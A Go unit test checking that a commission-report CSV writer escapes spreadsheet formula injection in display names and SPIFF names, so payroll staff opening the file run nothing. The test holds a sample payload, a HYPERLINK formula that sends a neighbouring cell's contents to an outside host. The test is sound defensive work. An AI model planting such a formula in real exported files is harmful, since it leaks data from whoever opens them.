package report_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/dealpilot/dealpilot/bot/report"
	"github.com/dealpilot/dealpilot/domain"
	"github.com/dealpilot/dealpilot/domain/commission"
	"github.com/dealpilot/dealpilot/i18n"
)

// TestCommissionsCSVNeutralisesFormulas: the payroll CSV carries display
// names as the platform gave them (and rules naming SPIFFs as configured,
// after the catalogue's words): a name that a spreadsheet would run as a
// formula is written as text (a
// leading apostrophe, as every other file dealpilot writes for
// spreadsheets), an ordinary one as it is, so payroll opening the file runs
// nothing.
func TestCommissionsCSVNeutralisesFormulas(t *testing.T) {
	evil := `=HYPERLINK("http://x/?"&L2,"Bob")`
	ss := []report.Statement{
		{User: "U1", Month: commission.Month{Lines: []commission.Line{{Kind: commission.KindSpiff, Deal: 1, Spiff: "=1+1", Base: 500_00,
			Split: commission.Unit, Amount: 500_00}}}},
		{User: "U2"},
	}
	var b bytes.Buffer
	if err := report.WriteCommissionsCSV(&b, i18n.EN, "2026-11", "EUR", ss, map[domain.UserID]string{"U1": evil, "U2": "Léa Martin"}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows[1:] {
		for i, cell := range r {
			if cell != "" && (cell[0] == '=' || cell[0] == '+' || cell[0] == '@') {
				t.Errorf("row %v: column %s starts a formula: %q", r, rows[0][i], cell)
			}
		}
		switch r[1] {
		case "U1":
			if r[2] != "'"+evil {
				t.Errorf("U1's name written %q, want it as text", r[2])
			}
		case "U2":
			if r[2] != "Léa Martin" {
				t.Errorf("an ordinary name changed: %q", r[2])
			}
		}
	}
}
